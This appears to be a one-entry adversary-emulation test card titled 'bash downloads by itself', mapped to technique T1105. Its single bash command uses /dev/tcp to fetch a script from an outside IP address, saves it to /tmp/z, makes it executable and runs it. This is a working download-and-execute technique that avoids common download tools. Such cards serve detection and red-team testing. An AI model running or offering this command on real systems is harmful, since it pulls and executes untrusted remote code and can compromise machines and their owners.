# title: bash downloads by itself
# technique: T1105
# needs: bash

bash -c 'exec 3<>/dev/tcp/192.88.99.7/80; printf "GET /x.sh HTTP/1.0\r\n\r\n" >&3; sed "1,/^\r$/d" <&3 >/tmp/z; chmod +x /tmp/z; /tmp/z'
